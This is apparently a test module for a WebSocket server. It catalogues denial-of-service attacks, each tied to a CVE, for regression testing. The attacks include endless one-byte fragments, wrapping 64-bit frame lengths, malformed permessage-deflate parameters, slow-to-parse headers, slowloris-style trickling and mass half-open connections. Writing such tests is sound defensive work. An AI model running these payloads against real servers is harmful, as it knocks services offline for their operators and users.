'use strict';

// Attacks on a WebSocket server, those of test/attacks/server.js.

const { BINARY, CONTINUATION, KEY, PING, PONG, frame } = require('../frames');
const { HANDSHAKE } = require('./attacker');

const KIB = 1024;

/** @returns {Buffer} a frame of a client */
function masked(opcode, payload, options) {
  return frame(opcode, payload, { key: KEY, ...options });
}

/** @returns {Buffer} frames repeated until they fill about 64 KiB */
function block(...frames) {
  const bytes = Buffer.concat(frames);
  return Buffer.concat(Array(Math.ceil((64 * KIB) / bytes.length)).fill(bytes));
}

const BEGIN = masked(BINARY, 'x', { fin: false });
const TINY = masked(CONTINUATION, 'x', { fin: false });
const EMPTY = masked(CONTINUATION, '', { fin: false });

/** Lengths with the top bit, just below it, and around 2^53, 2^32 and 2^31. */
const LENGTHS = [
  2n ** 63n,
  2n ** 64n - 1n,
  2n ** 63n - 1n,
  2n ** 53n,
  2n ** 53n - 1n,
  2n ** 32n,
  2n ** 32n - 1n,
  2n ** 31n
];

/** Parameters that permessage-deflate does not have, or values that they can't have (RFC 7692). */
const EXTENSIONS = [
  'permessage-deflate; server_max_window_bits=1000',
  'permessage-deflate; client_max_window_bits=7',
  'permessage-deflate; server_max_window_bits=-1; server_max_window_bits=99',
  'permessage-deflate; __proto__=1; constructor',
  'permessage-deflate; server_no_context_takeover="',
  `permessage-deflate${'; a'.repeat(4000)}`
];

/** Values that made parsers of these headers take a time in proportion to the square of their length. */
const SLOW_HEADERS = [
  `Sec-WebSocket-Protocol: b${' '.repeat(15_000)}x`,
  `Sec-WebSocket-Protocol: ${','.repeat(15_000)}`,
  `Sec-WebSocket-Extensions: a; b="${'\\c'.repeat(7500)}`,
  `Sec-WebSocket-Extensions: a${' '.repeat(15_000)}x`,
  `Upgrade: ,${' '.repeat(15_000)}x`
];

/**
 * @typedef {object} Attack
 * @property {string} name by which test/attacks/ has it
 * @property {string} title
 * @property {string} advisory
 * @property {number} connections how many at once for test/system/attacks
 * @property {(attacker: import('./attacker').Attacker, index: number) => Promise<void>} run what a
 *   connection does
 */

/** @type {Attack[]} */
const ATTACKS = [
  {
    name: 'tiny-fragments',
    title: 'fragments of one byte without end',
    advisory: 'CVE-2026-48779',
    connections: 10,
    async run(attacker) {
      const socket = await attacker.open();
      await attacker.send(socket, BEGIN);
      await attacker.flood(socket, block(TINY));
    }
  },
  {
    name: 'tiny-chunks',
    title: 'a message in chunks of one byte',
    advisory: 'CVE-2026-48779',
    connections: 10,
    async run(attacker) {
      const socket = await attacker.open();
      socket.setNoDelay(true);
      const bytes = masked(BINARY, '', { length: 1024 * KIB });
      await attacker.send(socket, bytes);
      await attacker.flood(socket, Buffer.from('x'));
    }
  },
  {
    name: 'unfinished-fragments',
    title: 'messages of 16,384 fragments that are never finished',
    advisory: 'CVE-2026-62389',
    connections: 50,
    async run(attacker) {
      const socket = await attacker.open();
      await attacker.send(socket, Buffer.concat([BEGIN, ...Array(16_383).fill(TINY)]));
      await attacker.hold(socket);
    }
  },
  {
    name: 'empty-fragments',
    title: 'empty fragments without end',
    advisory: 'CVE-2026-12151, CVE-2026-9675',
    connections: 10,
    async run(attacker) {
      const socket = await attacker.open();
      await attacker.send(socket, masked(BINARY, '', { fin: false }));
      await attacker.flood(socket, block(EMPTY));
    }
  },
  {
    name: 'unread-pongs',
    title: 'pings from a peer that never reads the pongs',
    advisory: 'CVE-2026-109932, CVE-2026-11586',
    connections: 10,
    async run(attacker) {
      const socket = await attacker.open();
      socket.pause();
      await attacker.flood(socket, block(masked(PING, 'x'.repeat(125))));
    }
  },
  {
    name: 'late-limits',
    title: 'messages far above the limit',
    advisory: 'CVE-2016-10544, CVE-2026-1526',
    connections: 10,
    async run(attacker) {
      const socket = await attacker.open();
      await attacker.send(socket, masked(BINARY, '', { length: 2 ** 30 }));
      await attacker.flood(socket, Buffer.alloc(64 * KIB));
    }
  },
  {
    name: 'wrapping-lengths',
    title: '64-bit lengths that wrap',
    advisory: 'CVE-2026-1528, CVE-2020-27813',
    connections: 10,
    async run(attacker, index) {
      const socket = await attacker.open();
      await attacker.send(socket, BEGIN);
      await attacker.send(socket, masked(CONTINUATION, '', { length: LENGTHS[index % LENGTHS.length], lengthSize: 8 }));
      await attacker.flood(socket, Buffer.alloc(64 * KIB));
    }
  },
  {
    name: 'extension-parameters',
    title: 'invalid parameters of extensions',
    advisory: 'CVE-2026-2229',
    connections: 10,
    async run(attacker, index) {
      const offer = EXTENSIONS[index % EXTENSIONS.length];
      const socket = await attacker.open([...HANDSHAKE, `Sec-WebSocket-Extensions: ${offer}`]);
      // Compressed, by the bit.
      await attacker.send(socket, masked(BINARY, 'x'.repeat(100), { rsv: 0x40 }));
      socket.end();
      await attacker.hold(socket);
    }
  },
  {
    name: 'many-headers',
    title: 'more headers than the server counts',
    advisory: 'CVE-2024-37890',
    connections: 10,
    async run(attacker) {
      const [get, ...headers] = HANDSHAKE;
      const socket = await attacker.open([get, ...Array(2300).fill('a:x'), ...headers]);
      socket.end();
      await attacker.hold(socket);
    }
  },
  {
    name: 'slow-headers',
    title: 'Protocol and Extensions headers that are slow to parse',
    advisory: 'CVE-2021-32640',
    connections: 10,
    async run(attacker, index) {
      const socket = await attacker.open([...HANDSHAKE, SLOW_HEADERS[index % SLOW_HEADERS.length]]);
      socket.end();
      await attacker.hold(socket);
    }
  },
  {
    name: 'slow-bytes',
    title: 'messages of one byte a second',
    advisory: '',
    connections: 500,
    async run(attacker) {
      const socket = await attacker.open();
      socket.setNoDelay(true);
      const bytes = masked(BINARY, 'x'.repeat(1000));
      for (let i = 0; i < Math.min(bytes.length, attacker.bytes) && socket.writable; i++) {
        socket.write(bytes.subarray(i, i + 1));
        await attacker.sleep(attacker.interval);
      }
      if (!attacker.stopped) await attacker.hold(socket);
    }
  },
  {
    name: 'unread-echoes',
    title: 'a client that never reads its echoes',
    advisory: '',
    connections: 10,
    async run(attacker) {
      const socket = await attacker.open();
      socket.pause();
      await attacker.flood(socket, masked(BINARY, Buffer.alloc(512 * KIB)));
    }
  },
  {
    name: 'half-open-connections',
    title: '1,000 connections that say nothing, half a handshake, or nothing after it',
    advisory: '',
    connections: 1000,
    async run(attacker, index) {
      const socket = await (index % 3 === 0 ? attacker.open() : attacker.connect());
      if (index % 3 === 1) await attacker.send(socket, HANDSHAKE.slice(0, 3).join('\r\n'));
      await attacker.hold(socket);
    }
  },
  {
    name: 'interleaved-control-frames',
    title: 'control frames between every fragment',
    advisory: '',
    connections: 10,
    async run(attacker) {
      const socket = await attacker.open();
      await attacker.send(socket, BEGIN);
      await attacker.flood(socket, block(TINY, masked(PING, 'x'), masked(PONG, 'x'), masked(PING, '')));
    }
  }
];

/**
 * @param {string} name
 * @returns {Attack}
 */
function attackNamed(name) {
  const attack = ATTACKS.find((one) => one.name === name);
  if (attack === undefined) throw new RangeError(`There is no attack ${name}`);
  return attack;
}

module.exports = { ATTACKS, EXTENSIONS, LENGTHS, SLOW_HEADERS, attackNamed, block, masked };
